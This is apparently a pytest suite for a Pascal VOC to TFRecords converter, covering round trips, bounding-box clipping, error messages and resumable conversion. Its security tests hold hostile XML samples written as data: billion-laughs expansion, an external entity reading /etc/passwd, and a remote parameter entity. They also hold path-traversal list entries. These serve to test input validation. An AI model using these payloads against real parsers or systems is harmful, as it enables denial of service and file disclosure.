"""Pascal VOC: converter (VOC tree -> TFRecords) and descriptors (TFRecords -> items).

Small VOC trees are built in tmp_path with Pillow-written JPEGs and hand-written XMLs; every
decoded value is compared with what the test computes from those sources itself.
"""

import glob
import json
import os
import random
import re
import subprocess
import sys
from xml.etree import ElementTree

import defusedxml.ElementTree
import numpy as np
import pytest
from PIL import Image

from slimdata import cli, tfexample_decoder
from slimdata._tf import tf
from slimdata.dataset import Dataset
from slimdata.dataset_data_provider import DatasetDataProvider
from slimdata.datasets import convert_utils, pascalvoc

ITEMS = ['image', 'shape', 'object/bbox', 'object/label', 'object/difficult', 'object/truncated']
LABELS = {'aeroplane': 1, 'bird': 3, 'car': 7, 'cat': 8, 'dog': 12, 'person': 15}


# --- Building VOC trees -----------------------------------------------------------------------

def write_jpeg(path, width, height, mode='RGB', seed=0):
    """A deterministic gradient image; returns the file's bytes."""
    y, x = np.mgrid[0:height, 0:width]
    base = ((x * 6 + y * 4 + seed * 40) % 256).astype(np.uint8)
    pixels = base if mode == 'L' else np.stack([base, base + 85, 255 - base], axis=-1)
    Image.fromarray(pixels).save(path, 'JPEG', quality=90)  # 'L' or 'RGB' from the shape
    with open(path, 'rb') as f:
        return f.read()


def annotation_xml(objects, size=None):
    """VOC XML text. Each object: name, box {xmin, ymin, xmax, ymax} (a field may be left out),
    optional difficult / truncated (absent when not given) and extra XML inside <object>."""
    parts = ['<annotation>\n  <folder>VOC2007</folder>\n']
    if size is not None:
        parts.append('  <size><width>%s</width><height>%s</height><depth>%s</depth></size>\n'
                     % size)
    for obj in objects:
        parts.append(f'  <object>\n    <name>{obj["name"]}</name>\n')
        for flag in ('difficult', 'truncated'):
            if flag in obj:
                parts.append(f'    <{flag}>{obj[flag]}</{flag}>\n')
        parts.append(obj.get('extra', ''))
        coordinates = ''.join(f'<{k}>{v}</{k}>' for k, v in obj['box'].items())
        parts.append(f'    <bndbox>{coordinates}</bndbox>\n  </object>\n')
    parts.append('</annotation>\n')
    return ''.join(parts)


def box(xmin, ymin, xmax, ymax):
    return {'xmin': xmin, 'ymin': ymin, 'xmax': xmax, 'ymax': ymax}


def build_voc(tmp_path, images, splits, year='2007'):
    """Writes <tmp_path>/VOCdevkit/VOC<year>; `images` maps id -> dict(width, height, mode,
    objects, xml_size or xml text). Returns the VOC folder and id -> JPEG bytes."""
    voc = tmp_path / 'VOCdevkit' / f'VOC{year}'
    for folder in ('Annotations', 'JPEGImages', 'ImageSets/Main'):
        (voc / folder).mkdir(parents=True)
    jpegs = {}
    for seed, (image_id, spec) in enumerate(images.items()):
        if spec.get('jpeg', True):
            jpegs[image_id] = write_jpeg(voc / 'JPEGImages' / f'{image_id}.jpg', spec['width'],
                                         spec['height'], spec.get('mode', 'RGB'), seed)
        xml = spec.get('xml') or annotation_xml(spec['objects'], spec.get('xml_size'))
        (voc / 'Annotations' / f'{image_id}.xml').write_text(xml)
    for split, ids in splits.items():
        (voc / 'ImageSets' / 'Main' / f'{split}.txt').write_text(''.join(f'{i}\n' for i in ids))
    return voc, jpegs


PART = ('    <part><name>head</name><bndbox><xmin>2</xmin><ymin>2</ymin><xmax>9</xmax>'
        '<ymax>9</ymax></bndbox></part>\n')

#: Three listed images (an RGB one with full <size>, a grayscale one without <size>, one whose
#: <size> is wrong and whose box crosses the edges) and one that is not listed.
SCENE = {
    '000003': dict(width=36, height=28, xml_size=(50, 40, 3), objects=[
        dict(name='cat', box=box(-3, 5, 45, 20), difficult=0),
        dict(name='bird', box=box(2, 3, 10, 12.5), truncated=1)]),
    '000001': dict(width=40, height=30, xml_size=(40, 30, 3), objects=[
        dict(name='dog', box=box(5, 4, 20, 15), difficult=1, truncated=0),
        dict(name='person', box=box(1, 1, 40, 30), truncated=1, extra=PART)]),
    '000002': dict(width=40, height=30, mode='L', objects=[
        dict(name='car', box=box(10, 10, 30, 25))]),
    '000004': dict(width=40, height=30, xml_size=(40, 30, 3), objects=[
        dict(name='aeroplane', box=box(3, 3, 9, 9))]),
}
LISTED = ['000003', '000001', '000002']


def expected_example(spec):
    """What the records must hold for one image, computed from the test's own spec: boxes
    normalised by the JPEG's real size as (v - 1) / size and clipped to [0, 1]."""
    width, height = spec['width'], spec['height']
    boxes = [[min(max((obj['box'][k] - 1) / size, 0.0), 1.0)
              for k, size in (('ymin', height), ('xmin', width), ('ymax', height),
                              ('xmax', width))] for obj in spec['objects']]
    channels = 1 if spec.get('mode') == 'L' else 3
    return {'shape': [height, width, channels],
            'object/bbox': np.array(boxes, np.float64).reshape(-1, 4),
            'object/label': [LABELS[obj['name']] for obj in spec['objects']],
            'object/difficult': [int(obj.get('difficult', 0)) for obj in spec['objects']],
            'object/truncated': [int(obj.get('truncated', 0)) for obj in spec['objects']]}


@pytest.fixture
def scene(tmp_path):
    voc, jpegs = build_voc(tmp_path / 'src', SCENE, {'trainval': LISTED})
    return voc, jpegs


def convert(voc_root, out, split='trainval', **kwargs):
    """Converts one split; returns its summary."""
    kwargs.setdefault('year', '2007')
    kwargs.setdefault('num_shards', 2)
    return pascalvoc.convert_voc(str(voc_root), str(out), splits=split, **kwargs)[split]


# --- Reading back -----------------------------------------------------------------------------

def read_with_provider(dataset, items):
    """Every example of `dataset` through DatasetDataProvider, in graph mode, one epoch."""
    with tf.Graph().as_default():
        provider = DatasetDataProvider(dataset, shuffle=False, num_epochs=1)
        tensors = provider.get(items)
        results = []
        with tf.compat.v1.Session() as session:
            session.run(tf.compat.v1.local_variables_initializer())
            coordinator = tf.train.Coordinator()
            threads = tf.compat.v1.train.start_queue_runners(session, coordinator)
            try:
                while True:
                    results.append(dict(zip(items, session.run(tensors))))
            except tf.errors.OutOfRangeError:
                pass
            finally:
                coordinator.request_stop()
                coordinator.join(threads)
    return results


def decoded_pixels(jpeg):
    return tf.io.decode_jpeg(jpeg, channels=3).numpy()


def check_against_sources(results, jpegs, specs):
    """Matches each provided example to its source image by pixels, then compares all items."""
    expected_pixels = {image_id: decoded_pixels(jpegs[image_id]) for image_id in specs}
    seen = []
    for result in results:
        matches = [image_id for image_id, pixels in expected_pixels.items()
                   if pixels.shape == result['image'].shape
                   and np.array_equal(pixels, result['image'])]
        assert len(matches) == 1, 'each decoded image equals exactly one source JPEG'
        image_id = matches[0]
        seen.append(image_id)
        expected = expected_example(specs[image_id])
        assert result['image'].dtype == np.uint8
        assert result['shape'].tolist() == expected['shape']
        np.testing.assert_allclose(result['object/bbox'], expected['object/bbox'], atol=1e-6)
        for item in ('object/label', 'object/difficult', 'object/truncated'):
            assert result[item].tolist() == expected[item], (image_id, item)
    assert sorted(seen) == sorted(specs)


def shard_records(out, split='trainval'):
    """The serialized records of every shard of `split`, in shard order."""
    files = sorted(glob.glob(os.path.join(str(out), f'{split}-*.tfrecord')))
    return [record.numpy() for record in tf.data.TFRecordDataset(files)]


def ids_of(records, jpegs):
    """The image id of each record, found by its image/encoded bytes."""
    by_bytes = {data: image_id for image_id, data in jpegs.items()}
    return [by_bytes[tf.train.Example.FromString(record)
                     .features.feature['image/encoded'].bytes_list.value[0]]
            for record in records]


# --- Round trips ------------------------------------------------------------------------------

def test_round_trip_through_descriptor_and_provider(scene, tmp_path):
    voc, jpegs = scene
    convert(voc, tmp_path / 'out')
    dataset = pascalvoc.get_split('trainval', str(tmp_path / 'out'), year='2007')
    assert dataset.num_samples == 3
    results = read_with_provider(dataset, ITEMS)
    assert len(results) == 3
    check_against_sources(results, jpegs, {i: SCENE[i] for i in LISTED})


def test_records_read_by_an_ssd_tensorflow_style_descriptor(scene, tmp_path):
    """Old code declares the layout itself (SSD-Tensorflow's pascalvoc_common.get_split) and
    reads our files unchanged."""
    voc, jpegs = scene
    convert(voc, tmp_path / 'out')
    keys_to_features = {
        'image/encoded': tf.io.FixedLenFeature((), tf.string, default_value=''),
        'image/format': tf.io.FixedLenFeature((), tf.string, default_value='jpeg'),
        'image/height': tf.io.FixedLenFeature([1], tf.int64),
        'image/width': tf.io.FixedLenFeature([1], tf.int64),
        'image/channels': tf.io.FixedLenFeature([1], tf.int64),
        'image/shape': tf.io.FixedLenFeature([3], tf.int64),
        'image/object/bbox/xmin': tf.io.VarLenFeature(dtype=tf.float32),
        'image/object/bbox/ymin': tf.io.VarLenFeature(dtype=tf.float32),
        'image/object/bbox/xmax': tf.io.VarLenFeature(dtype=tf.float32),
        'image/object/bbox/ymax': tf.io.VarLenFeature(dtype=tf.float32),
        'image/object/bbox/label': tf.io.VarLenFeature(dtype=tf.int64),
        'image/object/bbox/difficult': tf.io.VarLenFeature(dtype=tf.int64),
        'image/object/bbox/truncated': tf.io.VarLenFeature(dtype=tf.int64),
    }
    items_to_handlers = {
        'image': tfexample_decoder.Image('image/encoded', 'image/format'),
        'shape': tfexample_decoder.Tensor('image/shape'),
        'object/bbox': tfexample_decoder.BoundingBox(['ymin', 'xmin', 'ymax', 'xmax'],
                                                     'image/object/bbox/'),
        'object/label': tfexample_decoder.Tensor('image/object/bbox/label'),
        'object/difficult': tfexample_decoder.Tensor('image/object/bbox/difficult'),
        'object/truncated': tfexample_decoder.Tensor('image/object/bbox/truncated'),
    }
    dataset = Dataset(data_sources=os.path.join(str(tmp_path / 'out'), 'trainval-*.tfrecord'),
                      reader=tf.compat.v1.TFRecordReader,
                      decoder=tfexample_decoder.TFExampleDecoder(keys_to_features,
                                                                 items_to_handlers),
                      num_samples=3, items_to_descriptions={}, num_classes=20)
    check_against_sources(read_with_provider(dataset, ITEMS), jpegs,
                          {i: SCENE[i] for i in LISTED})


def test_record_layout_and_image_bytes_passed_through(scene, tmp_path):
    voc, jpegs = scene
    convert(voc, tmp_path / 'out')
    records = shard_records(tmp_path / 'out')
    assert sorted(ids_of(records, jpegs)) == sorted(LISTED)  # 000004 is not listed
    for record in records:
        example = tf.train.Example.FromString(record)
        feature = example.features.feature
        image_id = ids_of([record], jpegs)[0]
        spec = SCENE[image_id]
        channels = 1 if spec.get('mode') == 'L' else 3
        assert sorted(feature) == sorted(
            ['image/encoded', 'image/format', 'image/height', 'image/width', 'image/channels',
             'image/shape'] + ['image/object/bbox/' + k for k in (
                 'ymin', 'xmin', 'ymax', 'xmax', 'label', 'label_text', 'difficult',
                 'truncated')])
        assert feature['image/encoded'].bytes_list.value == [jpegs[image_id]]
        assert feature['image/format'].bytes_list.value == [b'JPEG']
        assert feature['image/height'].int64_list.value == [spec['height']]
        assert feature['image/width'].int64_list.value == [spec['width']]
        assert feature['image/channels'].int64_list.value == [channels]
        assert feature['image/shape'].int64_list.value == [spec['height'], spec['width'],
                                                           channels]
        assert feature['image/object/bbox/label_text'].bytes_list.value == [
            obj['name'].encode() for obj in spec['objects']]
        assert (feature['image/object/bbox/xmin'].WhichOneof('kind'),
                feature['image/object/bbox/label'].WhichOneof('kind')) == ('float_list',
                                                                           'int64_list')


def test_size_notes_and_clipping_are_counted(scene, tmp_path):
    voc, _ = scene
    summary = convert(voc, tmp_path / 'out')
    assert summary.num_records == 3
    assert summary.skipped == {}
    [missing] = summary.notes['image size from JPEG: XML <size> missing or unreadable']
    assert '000002.xml' in missing
    [disagrees] = summary.notes['image size from JPEG: XML <size> disagrees']
    assert '000003.xml' in disagrees and '50x40' in disagrees and '36x28' in disagrees
    [clipped] = summary.notes['box clipped to the image']
    assert '000003.xml object 0 (cat)' in clipped
    # The person box of 000001 touches all four edges (1..40, 1..30) and is not clipped.
    assert set(summary.notes) == {'image size from JPEG: XML <size> missing or unreadable',
                                  'image size from JPEG: XML <size> disagrees',
                                  'box clipped to the image'}


def test_dataset_info_labels_and_published_fallbacks(scene, tmp_path):
    voc, _ = scene
    out = tmp_path / 'out'
    convert(voc, out)
    info = json.loads((out / 'dataset_info.json').read_text())
    assert info['name'] == 'pascalvoc_2007'
    assert info['splits']['trainval']['num_examples'] == 3
    assert info['labels_to_names']['0'] == 'none'
    assert info['labels_to_names']['15'] == 'person'
    assert info['labels_to_names']['20'] == 'tvmonitor'
    assert info['extra'] == {'num_classes': 21}
    assert 'image/object/bbox/difficult' in info['keys_to_features']
    assert (out / 'labels.txt').read_text().splitlines()[:2] == ['0:none', '1:aeroplane']
    dataset = pascalvoc.get_split('trainval', str(out))
    assert (dataset.num_samples, dataset.num_classes) == (3, 21)
    assert dataset.labels_to_names[12] == 'dog'
    # A folder of records converted by SSD-Tensorflow (no dataset_info.json): its sizes.
    empty = tmp_path / 'ssd'
    empty.mkdir()
    assert pascalvoc.get_split('train', str(empty), year='2007').num_samples == 5011
    assert pascalvoc.get_split('test', str(empty), year='2007').num_samples == 4952
    assert pascalvoc.get_split('train', str(empty), year='2012').num_samples == 17125
    with pytest.raises(ValueError, match="'test'"):
        pascalvoc.get_split('test', str(empty), year='2012')
    with pytest.raises(ValueError, match="'2010'"):
        pascalvoc.get_split('train', str(empty), year='2010')


@pytest.mark.parametrize('seed', [None, 7])
def test_record_order_follows_the_list_or_the_seed(scene, tmp_path, seed):
    voc, jpegs = scene
    convert(voc, tmp_path / 'out', seed=seed)
    expected = list(LISTED)
    if seed is not None:
        random.Random(seed).shuffle(expected)
    assert ids_of(shard_records(tmp_path / 'out'), jpegs) == expected


@pytest.mark.parametrize('given, found_as', [
    ('src/VOCdevkit/VOC2007', 'the VOC folder itself'),
    ('src/VOCdevkit', 'a VOCdevkit root'),
    ('src', 'the folder holding VOCdevkit/'),
])
def test_accepts_the_voc_folder_the_devkit_root_or_its_parent(scene, tmp_path, capsys, given,
                                                              found_as):
    summary = convert(tmp_path / given, tmp_path / 'out')
    assert summary.num_records == 3
    assert found_as in capsys.readouterr().err


def test_refuses_a_tree_of_another_year_or_no_tree(scene, tmp_path):
    voc, _ = scene
    with pytest.raises(ValueError, match='VOC2007 folder, but year 2012'):
        convert(voc, tmp_path / 'out', year='2012')
    with pytest.raises(ValueError, match=re.escape(str(tmp_path / 'out')) + ' is not a Pascal'):
        convert(tmp_path / 'out', tmp_path / 'out2')


def test_workers_give_the_same_bytes(scene, tmp_path):
    voc, _ = scene
    convert(voc, tmp_path / 'one', processes=1, num_shards=2)
    convert(voc, tmp_path / 'two', processes=2, num_shards=2)
    for name in ('trainval-00000-of-00002.tfrecord', 'trainval-00001-of-00002.tfrecord'):
        assert (tmp_path / 'one' / name).read_bytes() == (tmp_path / 'two' / name).read_bytes()


def test_command_line(scene, tmp_path, capsys):
    assert cli.main(['convert', 'voc', str(tmp_path / 'src'), str(tmp_path / 'out'), '--year',
                     '2007', '--split', 'trainval', '--num-shards', '1', '--on-bad-box',
                     'skip']) == 0
    printed = capsys.readouterr().out
    assert 'trainval: 3 records in 1 shard' in printed
    assert 'object dropped: box crosses the image edge: 1' in printed
    assert os.path.exists(tmp_path / 'out' / 'trainval-00000-of-00001.tfrecord')
    with pytest.raises(SystemExit):
        cli.main(['convert', 'voc', '--help'])
    assert 'ImageSets/Main/<split>.txt' in capsys.readouterr().out


def test_converter_workers_do_not_import_tensorflow(scene, tmp_path):
    """What a converter's worker process runs (import the modules, encode an example) must not
    import TensorFlow: it would add seconds to every worker's start."""
    voc, _ = scene
    label = tmp_path / 'label.png'
    Image.fromarray(np.zeros((30, 40), np.uint8)).save(label)
    code = f"""if True:
        import sys
        import numpy as np
        from slimdata.datasets import classification, pascalvoc, segmentation
        voc = {str(voc)!r}
        pascalvoc.encode_image('000001', voc, voc + '/ImageSets/Main/trainval.txt')
        classification.encode_pixels((np.zeros((4, 4), np.uint8), 1))
        classification.encode_image_file((voc + '/JPEGImages/000002.jpg', 0))
        source = segmentation.SegmentationSource(voc + '/JPEGImages/000001.jpg',
                                                 {str(label)!r}, '000001')
        segmentation.encode_segmentation_example(source, 21, 255, 'error')
        print('tensorflow' in sys.modules)
    """
    result = subprocess.run([sys.executable, '-c', code], capture_output=True, text=True,
                            check=True)
    assert result.stdout.strip() == 'False'


# --- Bad boxes --------------------------------------------------------------------------------

BAD_BOXES = {'000001': dict(width=40, height=30, xml_size=(40, 30, 3), objects=[
    dict(name='dog', box=box(5, 4, 20, 15)),           # inside
    dict(name='cat', box=box(-3, 5, 45, 20)),          # crosses the left and right edges
    dict(name='bird', box=box(50, 5, 60, 20)),         # entirely right of the image
    dict(name='car', box=box(30, 5, 10, 20)),          # inverted: xmin > xmax
])}


def labels_and_boxes(out):
    [record] = shard_records(out)
    feature = tf.train.Example.FromString(record).features.feature
    boxes = np.array([feature['image/object/bbox/' + k].float_list.value
                      for k in ('ymin', 'xmin', 'ymax', 'xmax')]).T
    return list(feature['image/object/bbox/label'].int64_list.value), boxes


def test_bad_boxes_clip(tmp_path):
    voc, _ = build_voc(tmp_path, BAD_BOXES, {'trainval': ['000001']})
    summary = convert(voc, tmp_path / 'out', on_bad_box='clip')
    labels, boxes = labels_and_boxes(tmp_path / 'out')
    assert labels == [12, 8]
    np.testing.assert_allclose(boxes, [[3 / 30, 4 / 40, 14 / 30, 19 / 40],
                                       [4 / 30, 0.0, 19 / 30, 1.0]], atol=1e-6)
    assert {reason: [d.split(': ')[0].rsplit(os.sep, 1)[1] for d in details]
            for reason, details in summary.notes.items()} == {
        'box clipped to the image': ['000001.xml object 1 (cat)'],
        'object dropped: box entirely outside the image': ['000001.xml object 2 (bird)'],
        'object dropped: inverted box': ['000001.xml object 3 (car)']}


def test_bad_boxes_skip(tmp_path):
    voc, _ = build_voc(tmp_path, BAD_BOXES, {'trainval': ['000001']})
    summary = convert(voc, tmp_path / 'out', on_bad_box='skip')
    labels, boxes = labels_and_boxes(tmp_path / 'out')
    assert labels == [12]
    np.testing.assert_allclose(boxes, [[3 / 30, 4 / 40, 14 / 30, 19 / 40]], atol=1e-6)
    assert {reason: len(details) for reason, details in summary.notes.items()} == {
        'object dropped: box crosses the image edge': 1,
        'object dropped: box entirely outside the image': 1,
        'object dropped: inverted box': 1}


@pytest.mark.parametrize('bad_object, index, problem', [
    (dict(name='cat', box=box(-3, 5, 45, 20)), 1, 'box crosses the image edge'),
    (dict(name='bird', box=box(50, 5, 60, 20)), 1, 'box entirely outside the image'),
    (dict(name='car', box=box(10, 25, 30, 5)), 1, 'inverted box'),
])
def test_bad_boxes_error(tmp_path, bad_object, index, problem):
    images = {'000001': dict(width=40, height=30, xml_size=(40, 30, 3), objects=[
        dict(name='dog', box=box(5, 4, 20, 15)), bad_object])}
    voc, _ = build_voc(tmp_path, images, {'trainval': ['000001']})
    xml_path = str(voc / 'Annotations' / '000001.xml')
    with pytest.raises(ValueError, match=re.escape(f'{xml_path} object {index}') + '.*'
                       + problem):
        convert(voc, tmp_path / 'out', on_bad_box='error')


def test_all_objects_dropped_keeps_the_image_with_no_boxes(tmp_path):
    images = {'000001': dict(width=40, height=30, xml_size=(40, 30, 3), objects=[
        dict(name='car', box=box(30, 5, 10, 20))])}
    voc, jpegs = build_voc(tmp_path, images, {'trainval': ['000001']})
    convert(voc, tmp_path / 'out')
    results = read_with_provider(pascalvoc.get_split('trainval', str(tmp_path / 'out')), ITEMS)
    [result] = results
    assert result['object/bbox'].shape == (0, 4)
    assert result['object/label'].tolist() == []
    np.testing.assert_array_equal(result['image'], decoded_pixels(jpegs['000001']))


# --- Bad input: errors that name the file -----------------------------------------------------

ONE_DOG = [dict(name='dog', box=box(5, 4, 20, 15))]


def convert_one(tmp_path, spec=None, listed=('000001',)):
    """Builds a one-image tree (optionally altered) and converts it; returns the VOC folder."""
    spec = spec or {}
    images = {'000001': {**dict(width=40, height=30, xml_size=(40, 30, 3), objects=ONE_DOG),
                         **spec}}
    voc, _ = build_voc(tmp_path, images, {'trainval': list(listed)})
    return voc


def error_for(tmp_path, voc, **kwargs):
    with pytest.raises(ValueError) as raised:
        convert(voc, tmp_path / 'out', **kwargs)
    return str(raised.value)


def test_unknown_class_names_the_file_and_the_name(tmp_path):
    voc = convert_one(tmp_path, dict(objects=[dict(name='dragon', box=box(5, 4, 20, 15))]))
    message = error_for(tmp_path, voc)
    assert str(voc / 'Annotations' / '000001.xml') in message and "'dragon'" in message


def test_missing_bndbox_field_names_file_object_and_field(tmp_path):
    voc = convert_one(tmp_path, dict(objects=ONE_DOG + [
        dict(name='cat', box={'xmin': 1, 'ymin': 1, 'xmax': 9})]))
    message = error_for(tmp_path, voc)
    assert f'{voc / "Annotations" / "000001.xml"} object 1 (cat)' in message
    assert '<ymax>' in message


@pytest.mark.parametrize('field, text', [('xmin', 'abc'), ('ymax', 'nan')])
def test_unreadable_coordinate(tmp_path, field, text):
    voc = convert_one(tmp_path, dict(objects=[dict(name='dog', box={**box(5, 4, 20, 15),
                                                                     field: text})]))
    message = error_for(tmp_path, voc)
    assert f'{voc / "Annotations" / "000001.xml"} object 0 (dog)' in message
    assert f'<{field}>' in message


def test_bad_difficult_flag(tmp_path):
    voc = convert_one(tmp_path, dict(objects=[dict(name='dog', box=box(5, 4, 20, 15),
                                                   difficult='2')]))
    message = error_for(tmp_path, voc)
    assert 'object 0 (dog)' in message and '<difficult>' in message


def test_missing_image_names_both_paths(tmp_path):
    voc = convert_one(tmp_path, dict(jpeg=False))
    message = error_for(tmp_path, voc)
    assert str(voc / 'JPEGImages' / '000001.jpg') in message
    assert str(voc / 'Annotations' / '000001.xml') in message


def test_missing_annotation_names_it_and_the_list(tmp_path):
    voc = convert_one(tmp_path, listed=('000001', '000009'))
    message = error_for(tmp_path, voc)
    assert str(voc / 'Annotations' / '000009.xml') in message
    assert str(voc / 'ImageSets' / 'Main' / 'trainval.txt') in message


@pytest.mark.parametrize('entry', ['../secret', '/etc/passwd', 'a/../../secret'])
def test_list_entry_outside_the_dataset_is_refused(tmp_path, entry):
    voc = convert_one(tmp_path, listed=('000001', entry))
    message = error_for(tmp_path, voc)
    assert str(voc / 'ImageSets' / 'Main' / 'trainval.txt') in message
    assert repr(entry) in message


def test_missing_split_lists_the_known_ones(tmp_path):
    voc = convert_one(tmp_path)
    (voc / 'ImageSets' / 'Main' / 'dog_trainval.txt').write_text('000001  1\n')
    message = error_for(tmp_path, voc, split='val')
    assert str(voc / 'ImageSets' / 'Main' / 'val.txt') in message
    assert "['trainval']" in message


def test_per_class_list_is_refused(tmp_path):
    voc = convert_one(tmp_path)
    (voc / 'ImageSets' / 'Main' / 'dog_trainval.txt').write_text('000001  1\n')
    message = error_for(tmp_path, voc, split='dog_trainval')
    assert 'dog_trainval.txt:1' in message and 'one image id per line' in message


@pytest.mark.parametrize('corrupt, reason', [
    (b'', 'is not a JPEG or PNG image'),
    (b'not a jpeg at all', 'is not a JPEG or PNG image'),
    (b'\xff\xd8\xff\xe0\x00\x10JFIF', 'is not a readable JPEG'),  # ends inside its header
    (b'\x89PNG\r\n\x1a\n' + b'\x00' * 32, 'is not a readable PNG'),  # a PNG under a .jpg name
])
def test_unreadable_jpeg_names_the_file(tmp_path, corrupt, reason):
    voc = convert_one(tmp_path)
    jpeg_path = voc / 'JPEGImages' / '000001.jpg'
    jpeg_path.write_bytes(corrupt)
    message = error_for(tmp_path, voc)
    assert f'{jpeg_path} {reason}' in message


def test_a_jpeg_cut_inside_its_image_data_is_refused(tmp_path):
    """The issue's case: a cut in the scan data passed the header-only check and failed in
    decode_jpeg during training."""
    voc = convert_one(tmp_path)
    jpeg_path = voc / 'JPEGImages' / '000001.jpg'
    data = jpeg_path.read_bytes()
    jpeg_path.write_bytes(data[:len(data) * 2 // 3])
    message = error_for(tmp_path, voc)
    assert f'{jpeg_path} is not a readable JPEG' in message and 'truncated' in message


def test_a_png_in_jpegimages_is_refused(tmp_path):
    voc = convert_one(tmp_path)
    jpeg_path = voc / 'JPEGImages' / '000001.jpg'
    Image.new('RGB', (8, 6)).save(jpeg_path, 'PNG')
    message = error_for(tmp_path, voc)
    assert f'{jpeg_path} is a PNG file, but the VOC layout (and its records) holds JPEGs' \
        in message


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE annotation [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<annotation><object><name>&lol3;</name></object></annotation>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE annotation [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<annotation><object><name>&secret;</name></object></annotation>
"""


PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE annotation [<!ENTITY % remote SYSTEM "http://example.com/evil.dtd"> %remote;]>
<annotation/>
"""

XML_VARIETY = [
    annotation_xml(SCENE['000001']['objects'], (40, 30, 3)).encode(),
    ('<?xml version="1.0" encoding="utf-8"?>\n<!-- a comment --><annotation verified="yes">'
     '<folder>VOC2012</folder><?keep this?><object><name>dog</name><bndbox><xmin a="1" b="2">'
     '1</xmin></bndbox></object>text<owner><name><![CDATA[Flickr & <co>]]></name></owner>'
     ' tail</annotation>').encode(),
    '<!DOCTYPE annotation><annotation><filename>caf\u00e9 &amp; \u6f22.jpg</filename>'
    '</annotation>'.encode(),
    '<?xml version="1.0" encoding="ISO-8859-1"?><annotation><pose>\u00e9t\u00e9</pose>'
    '</annotation>'.encode('latin-1'),
]


@pytest.mark.parametrize('data', XML_VARIETY)
def test_annotations_parse_as_with_defusedxml_fromstring(data):
    ours = convert_utils.parse_xml(data, 'a.xml')
    reference = defusedxml.ElementTree.fromstring(data)
    assert ElementTree.tostring(ours) == ElementTree.tostring(reference)


@pytest.mark.parametrize('xml', [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY])
def test_hostile_xml_is_refused(tmp_path, xml):
    voc = convert_one(tmp_path, dict(xml=xml))
    message = error_for(tmp_path, voc)
    assert f'{voc / "Annotations" / "000001.xml"}: refused' in message


def test_malformed_xml_names_the_file(tmp_path):
    voc = convert_one(tmp_path, dict(xml='<annotation><object>'))
    message = error_for(tmp_path, voc)
    assert f'{voc / "Annotations" / "000001.xml"} is not well-formed XML' in message


def test_bad_arguments(tmp_path):
    voc = convert_one(tmp_path)
    assert "'squash'" in error_for(tmp_path, voc, on_bad_box='squash')
    assert "'2010'" in error_for(tmp_path, voc, year='2010')
    assert "'../trainval'" in error_for(tmp_path, voc, split='../trainval')


# --- Interrupted conversions ------------------------------------------------------------------

def test_interrupted_conversion_leaves_complete_shards_and_a_rerun_finishes(tmp_path):
    images = {f'00000{i}': dict(width=40, height=30, xml_size=(40, 30, 3), objects=ONE_DOG)
              for i in range(1, 5)}
    voc, jpegs = build_voc(tmp_path / 'src', images, {'trainval': sorted(images)})
    missing = voc / 'JPEGImages' / '000003.jpg'
    missing.unlink()
    out = tmp_path / 'out'
    with pytest.raises(ValueError, match=re.escape(str(missing))):
        convert(voc, out, num_shards=4)
    # Whatever is under a final name is complete: one record per shard, the right one.
    finished = sorted(glob.glob(str(out / 'trainval-*.tfrecord')))
    assert len(finished) < 4
    for path in finished:
        index = int(os.path.basename(path).split('-')[1])
        records = [r.numpy() for r in tf.data.TFRecordDataset(path)]
        assert ids_of(records, jpegs) == [sorted(images)[index]]
    # dataset_info.json says the split is incomplete, and which shards are whole.
    entry = json.loads((out / 'dataset_info.json').read_text())['splits']['trainval']
    assert entry['complete'] is False
    assert [shard['file'] for shard in entry['shards']] == [os.path.basename(path)
                                                             for path in finished]

    missing.write_bytes(jpegs['000003'])
    summary = convert(voc, out, num_shards=4)
    assert summary.shards_reused == len(finished)
    assert summary.num_records == 4
    convert(voc, tmp_path / 'fresh', num_shards=4)
    for k in range(4):
        name = f'trainval-0000{k}-of-00004.tfrecord'
        assert (out / name).read_bytes() == (tmp_path / 'fresh' / name).read_bytes()
    assert sorted(os.listdir(out)) == sorted(os.listdir(tmp_path / 'fresh'))
